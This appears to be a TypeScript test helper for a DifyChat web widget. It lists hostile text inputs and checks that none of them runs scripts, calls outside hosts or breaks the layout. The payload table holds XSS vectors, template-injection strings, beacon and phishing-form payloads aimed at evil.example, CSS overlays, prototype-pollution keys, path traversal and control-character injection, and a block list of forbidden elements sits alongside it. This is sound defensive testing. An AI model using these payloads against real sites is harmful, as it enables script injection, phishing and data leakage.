/** What somebody may have put where a text is expected, and what must not come of it. */
import type {DifyChat} from '../../src/index.js';
import {deepAll} from './chat.js';

/** By what it tries. */
export const PAYLOADS: Record<string, string> = {
  'an image with a handler': '<img src=x onerror=hit()>',
  'the end of an attribute': `"'><script>hit()</script><svg onload=hit()>`,
  'a script as an address': 'javascript:hit()//https://evil.example/',
  'a template of a page': '{{constructor.constructor("hit()")()}}${hit()}<%= hit() %>',
  'an address to call': 'https://evil.example/beacon.png?secret',
  'an address without a protocol': '//evil.example/beacon.png',
  'a document as an address': 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
  'a style that calls': 'red;background:url(https://evil.example/b.png);position:fixed;inset:0',
  'Markdown that calls':
    '![x](https://evil.example/m.png) [https://bank.example](javascript:hit()) <https://a@evil.example>',
  'a form': '<form action="https://evil.example"><input name=p autofocus><button>Log in</button></form>',
  'elements of ours':
    '</textarea></div><dify-chat open base-url="https://evil.example"></dify-chat><b class="notice" part="panel">x</b>',
  'a style sheet':
    '<style>*{display:none}</style><link rel=stylesheet href="https://evil.example/l.css"><base href="https://evil.example/">',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'another place': '../../../v1/apps?user=admin#x',
  'a template of Lit': '{"_$litType$":1,"strings":["<img src=x onerror=hit()>"],"values":[]}',
  'one long word': 'x'.repeat(3000),
  'many lines': 'line\n'.repeat(300),
  'combining marks': `a${'\u0301'.repeat(20_000)}`,
  'writing that turns around': '\u202E\u2066\u2067gnp.exe\u200B\u200D\uFEFF مرحبا',
  'control characters': 'a\0\r\nX-Header: 1\u2028\u2029\uD800b',
  'white space': ' \t\n\u00A0',
};

/** Elements that have no place in a chat, whoever asks for them. */
const FORBIDDEN =
  'script, iframe, object, embed, form, base, meta, link, style, template, dialog, audio, video, foreignObject, use, animate, dify-chat dify-chat, [popover], [autofocus], [contenteditable], [srcset], [ping], [is]';

/** Elements of ours that always show something. */
const MUST = /^dify-chat-(?:launcher|panel|header|thread|message|composer|part)$/;

/** How many times something ran that must not. */
let hits = 0;
const errors: string[] = [];
const opened: unknown[] = [];
let before: {href: string; title: string; base: string; windowOpen: PropertyDescriptor} | undefined;

const failed = (event: ErrorEvent | PromiseRejectionEvent) =>
  void errors.push('message' in event ? event.message : String(event.reason));

/** Begins to watch the page: for `beforeEach`. */
export function watch(): void {
  hits = 0;
  errors.length = opened.length = 0;
  Object.assign(window, {hit: () => hits++});
  before = {
    href: location.href,
    title: document.title,
    base: document.baseURI,
    windowOpen: Object.getOwnPropertyDescriptor(window, 'open')!,
  };
  window.open = (...args) => (opened.push(args), null);
  addEventListener('error', failed);
  addEventListener('unhandledrejection', failed);
  performance.setResourceTimingBufferSize(10_000);
  performance.clearResourceTimings();
}

/** Stops watching: for `afterEach`. */
export function unwatch(): void {
  if (before) Object.defineProperty(window, 'open', before.windowOpen);
  removeEventListener('error', failed);
  removeEventListener('unhandledrejection', failed);
}

/** What went out to places that are neither the page's nor an emulator's; the emulators are on this machine. */
export function strangers(): string[] {
  return performance
    .getEntriesByType('resource')
    .map(({name}) => name)
    .filter((name) => !name.startsWith('data:') && !['127.0.0.1', 'localhost'].includes(new URL(name).hostname));
}

/** All that is wrong with the page and the chat in it; empty when nothing is. */
export function harm(chat: DifyChat): string[] {
  const found = [...errors, ...strangers().map((name) => `asked for ${name}`), ...layout(chat)];
  if (hits) found.push('a script ran');
  if (opened.length) found.push('a window was opened');
  if (({} as {polluted?: unknown}).polluted !== undefined) found.push('prototypes are polluted');
  if (location.href !== before?.href) found.push('the page has moved');
  if (document.title !== before?.title || document.baseURI !== before.base) found.push('the page was changed');
  for (const el of everything(chat)) {
    if (el.matches(FORBIDDEN)) found.push(`there is ${el.outerHTML.slice(0, 200)}`);
    const none = el.matches('[data-none]'); // what it would show stands elsewhere
    if (MUST.test(el.localName) && !none && !el.shadowRoot?.childElementCount) found.push(`${el.localName} is empty`);
    for (const {name, value} of el.attributes) {
      if (name.startsWith('on')) found.push(`${name} at ${el.localName}`);
      if (name === 'href' && !/^(?:https?|mailto|tel):/.test(value)) found.push(`a link to ${value}`);
      if (name === 'style' && /url|position/.test(value)) found.push(`a style: ${value}`);
    }
    if (el instanceof HTMLAnchorElement && (el.target !== '_blank' || !el.relList.contains('noopener')))
      found.push(`a link here: ${el.outerHTML.slice(0, 200)}`);
  }
  return [...new Set(found)];
}

/** Every element of a chat, through shadow roots. */
export function everything(root: Element | ShadowRoot): Element[] {
  const inside = [...root.querySelectorAll('*')].flatMap((el) => [
    el,
    ...(el.shadowRoot ? everything(el.shadowRoot) : []),
  ]);
  return root instanceof Element && root.shadowRoot ? [...everything(root.shadowRoot), ...inside] : inside;
}

/** What leaves the panel at its sides, or the window. What scrolls in a box of its own is where it belongs. */
function layout(chat: DifyChat): string[] {
  const out: string[] = [];
  for (const button of deepAll(chat, 'dify-chat-launcher', 'button')) {
    const {left, right, width} = button.getBoundingClientRect();
    if (width && (left < 0 || right > innerWidth)) out.push('the launcher leaves the window');
    const {scrollWidth, clientWidth, scrollHeight, clientHeight} = button;
    if (scrollWidth > clientWidth + 4 || scrollHeight > clientHeight + 4) out.push('the words leave the launcher');
  }
  const [panel] = deepAll(chat, 'dify-chat-panel');
  const frame = panel?.getBoundingClientRect();
  if (!frame?.width) return out;
  const below = chat.display === 'bubble' && frame.bottom > innerHeight + 1;
  if (below || frame.left < 0 || frame.right > innerWidth) out.push('the panel leaves the window');
  for (const el of everything(panel!)) {
    if (el.closest('.visually-hidden, svg, .table, .code, pre') || !el.checkVisibility()) continue;
    const {left, right, width} = el.getBoundingClientRect();
    if (width && (left < frame.left - 1 || right > frame.right + 1))
      out.push(`${el.localName}.${el.className} leaves the panel: ${left} to ${right}`);
  }
  return out;
}
